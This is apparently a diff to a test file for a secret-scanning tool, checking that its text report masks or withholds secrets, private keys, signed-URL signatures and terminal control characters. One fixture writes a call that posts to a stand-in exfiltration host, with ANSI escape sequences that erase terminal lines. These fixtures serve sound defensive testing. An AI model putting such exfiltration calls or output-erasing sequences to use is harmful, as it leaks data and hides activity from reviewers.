@@ -2,7 +2,7 @@ import { expect, test } from "bun:test";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { body, fake } from "../secrets/fake.ts";
+import { b64, body, fake } from "../secrets/fake.ts";
 import { scanDirectory } from "../scan-directory.ts";
 import { renderText } from "./text.ts";
 
@@ -17,10 +17,47 @@ test("groups by host, shows decoded and masked context, windows long lines", asy
     expect(out).toMatch(/^Scanned 3 files/);
     expect(out).toContain("Secrets (1)");
     expect(out).not.toContain(key);
-    expect(out).toContain('1 | requests.get("https://api.acme.io/x", headers={"k": "…"})');
+    // The line holds the secret: withheld.
+    expect(out).toContain("1 | (line withheld: it holds a secret)");
     expect(out).toContain("1 | https://u16.acme.io");
     expect(out).toMatch(/1 \| \.\.\.(x;)+fetch\("https:\/\/min\.acme\.io\/a"\)/);
     expect(out.indexOf("api.acme.io  unknown")).toBeGreaterThan(0);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test("no source line shown holds a secret, a URL credential or a control character", async () => {
+  const dir = mkdtempSync(join(tmpdir(), "trustrun-text-"));
+  try {
+    const a = ["Zq8Wm3Xr", "7Tn2Lp5Kv9Bc"].join("");
+    const b = ["Zq8Wm3Xr", "7Tn2Lp5Kv9Bd"].join("");
+    // Secrets found with the help of the line above: their lines are withheld.
+    writeFileSync(join(dir, "deploy.yaml"), `env:\n  - name: DB_PASSWORD\n    value: "${a}"   # rotate via https://vault.acme-health.com/ui\n`);
+    writeFileSync(join(dir, "vars.tf"), `variable "client_secret" {\n  default = "${b}" # https://portal.acme-health.com\n}\n`);
+    // A secret found on one line, repeated on another: masked there.
+    writeFileSync(join(dir, "client.py"), `import requests\nAPI_KEY = "${a}"\nr = requests.get(f"https://api.acme-health.com/v1/{API_KEY}")\nt = requests.get(sign(TOK, "${a}"))\n`);
+    // A private key: none of its lines, though the URL line above and the call below show.
+    const begin = ["-----BEGIN", " PRIVATE KEY-----"].join("");
+    const end = ["-----END", " PRIVATE KEY-----"].join("");
+    const keyBody = [body(64, b64, 401), body(64, b64, 402), body(64, b64, 403), body(30, b64, 404)];
+    writeFileSync(join(dir, "pki.py"), `import requests\nKEY = """${begin}\n${keyBody.join("\n")}\n${end}"""  # https://pki.acme-health.com/ca\nrequests.get("https://pki.acme-health.com/ca")\n`);
+    // A pre-signed URL: its signature is masked on the source line as in the value.
+    const sig = body(64, "0123456789abcdef", 405);
+    writeFileSync(join(dir, "s3.py"), `u = "https://b.s3.amazonaws.com/k.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=${sig}"\n`);
+    // Escape sequences that would erase the report's lines on a terminal.
+    writeFileSync(join(dir, "a\x1b[2Kb.py"), 'import requests\nrequests.post("https://exfil.evil-ai.com/upload")  # \r\x1b[2K\x1b[1A\x1b[2K\n');
+    const out = renderText(await scanDirectory(dir, { workers: 0 }));
+    for (const secret of [a, b, sig, ...keyBody]) expect(out).not.toContain(secret);
+    expect(out).toContain("3 | (line withheld: it holds a secret)");
+    expect(out).toContain("2 | (line withheld: it holds a secret)");
+    expect(out).toContain('4 | t = requests.get(sign(TOK, "…[redacted 20 chars]"))');
+    expect(out).toContain("7 | (line withheld: it holds a secret)");
+    expect(out).toContain('8 | requests.get("https://pki.acme-health.com/ca")');
+    expect(out).toContain("X-Amz-Signature=***\"");
+    expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
+    expect(out).toContain("a\\x1b[2Kb.py:2:");
+    expect(out).toContain("# \\r\\x1b[2K\\x1b[1A\\x1b[2K");
   } finally {
     rmSync(dir, { recursive: true, force: true });
   }
